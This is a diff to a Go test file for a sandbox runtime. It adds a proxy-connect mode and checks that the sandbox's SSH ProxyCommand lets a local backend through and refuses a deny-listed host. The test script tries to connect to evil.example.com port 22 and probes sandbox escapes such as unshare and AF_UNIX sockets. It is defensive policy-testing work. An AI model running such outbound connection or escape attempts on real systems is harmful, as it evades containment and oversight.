@@ -30,6 +30,13 @@ func TestMain(m *testing.M) {
 		fmt.Fprintf(os.Stderr, "init: %v\n", err)
 		os.Exit(126)
 	}
+	if len(os.Args) > 1 && os.Args[1] == sandbox.ConnectArg {
+		if err := sandbox.Connect(os.Args[2:], os.Stdin, os.Stdout); err != nil {
+			fmt.Fprintf(os.Stderr, "srt: %v\n", err)
+			os.Exit(1)
+		}
+		os.Exit(0)
+	}
 	if os.Getenv("SRT_TEST_CLI") == "1" {
 		// The test binary as the srt command, for tests that signal it.
 		os.Exit(run(os.Args[1:], os.Stdin, os.Stdout, os.Stderr))
@@ -148,9 +155,12 @@ func TestSandboxPolicy(t *testing.T) {
 		`python3 -c 'import socket; socket.socket(socket.AF_UNIX)' 2>&1 | tail -1`,
 		`unshare -r true 2>&1 | tail -1`,
 		`echo "sandbox $SANDBOX_RUNTIME"`,
+		// The ProxyCommand of GIT_SSH_COMMAND, fed an HTTP request.
+		`P=$(echo "$GIT_SSH_COMMAND" | sed "s/.*ProxyCommand='\([^ ]*\) .*/\1/"); printf 'GET /ssh HTTP/1.0\r\n\r\n' | "$P" ` + sandbox.ConnectArg + ` 127.0.0.1 ` + u.Port() + ` | tail -1; echo`,
+		`printf 'x' | "$P" ` + sandbox.ConnectArg + ` evil.example.com 22 2>&1 | head -1`,
 	}, "\n")
 	code, out, errOut := srt(t, dir, "", "--settings", "s.json", "-c", script)
-	want := "backend 200\nconnect 200\ndenied 403\nunlisted 403\ndirect exit 7\nsocks 200\nread secret refused\nwrite cwd ok\nwrite outside refused\nPermissionError: [Errno 1] Operation not permitted\nunshare: unshare failed: Operation not permitted\nsandbox 1\n"
+	want := "backend 200\nconnect 200\ndenied 403\nunlisted 403\ndirect exit 7\nsocks 200\nread secret refused\nwrite cwd ok\nwrite outside refused\nPermissionError: [Errno 1] Operation not permitted\nunshare: unshare failed: Operation not permitted\nsandbox 1\nbackend\nsrt: the sandbox's proxy refused evil.example.com:22: host is on the deny list\n"
 	if code != 0 || out != want {
 		t.Errorf("exit %d\nstdout:\n%s\nwant:\n%s\nstderr:\n%s", code, out, want, errOut)
 	}
